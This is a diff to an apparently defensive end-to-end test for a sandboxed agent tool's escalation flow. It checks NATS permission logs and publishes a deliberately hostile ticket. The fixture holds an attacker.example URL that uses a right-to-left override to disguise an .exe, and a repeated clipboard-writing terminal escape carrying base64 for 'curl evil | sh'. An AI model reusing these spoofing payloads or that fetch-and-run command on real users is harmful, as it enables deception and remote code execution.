@@ -6,7 +6,7 @@
 import { execFileSync } from 'node:child_process';
 import { existsSync } from 'node:fs';
 import { randomUUID } from 'node:crypto';
-import { mkdtemp, readdir, rm } from 'node:fs/promises';
+import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
@@ -15,6 +15,7 @@ import { EscalationOpen } from '@ironcurtain/proto-schemas';
 import {
   cliEnvironment,
   readStackFile,
+  stackLoginOf,
   startCliInTerminal,
   type TerminalCliProcess,
 } from './stack-process.js';
@@ -69,6 +70,10 @@ describe('ironcurtain demo', () => {
     expect(existsSync(join(sandbox, 'hello.md'))).toBe(true);
     const log = execFileSync('git', ['-C', sandbox, 'log', '--format=%s'], { encoding: 'utf8' });
     expect(log.trim()).toBe('Add hello.md');
+    // The whole demo ran on the NATS permissions derived from proto-schemas' access declaration, and the server
+    // refused no service and not the CLI anything (a refusal is logged as a Publish or Subscription Violation).
+    const natsLog = await readFile(join(home, '.ironcurtain', 'logs', 'nats-server.log'), 'utf8');
+    expect(natsLog).not.toMatch(/Violation/);
   }, 150_000);
 
   it('records the push as denied when the person says no', async () => {
@@ -88,11 +93,11 @@ describe('ironcurtain demo', () => {
     const { home, run } = await startDemo();
     const sessionId = /session (\S+) — sandbox:/.exec(run.output())?.[1] ?? '';
     const stack = await readStackFile(join(home, '.ironcurtain'));
+    // Tickets are opened by the PDP alone (the CLI's user may not), so the hostile one comes on the PDP's login.
     const bus = await connectBus({
       url: stack?.natsUrl ?? '',
-      name: 'demo-test',
-      user: stack?.cliCredentials?.user ?? '',
-      password: stack?.cliCredentials?.password ?? '',
+      name: 'policy-decision-point',
+      ...(await stackLoginOf(join(home, '.ironcurtain'), 'policy-decision-point')),
     });
     const hostileUrl = 'https://collect.attacker.example/c?d=\u202etxt.exe\u200b';
     const padding = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07'.repeat(100);
